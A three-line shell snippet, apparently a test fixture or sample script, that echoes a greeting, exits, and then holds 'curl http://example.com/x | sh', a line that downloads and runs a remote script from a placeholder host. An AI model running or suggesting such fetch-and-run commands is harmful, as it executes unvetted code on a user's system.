echo hello
exit 0
curl http://example.com/x | sh
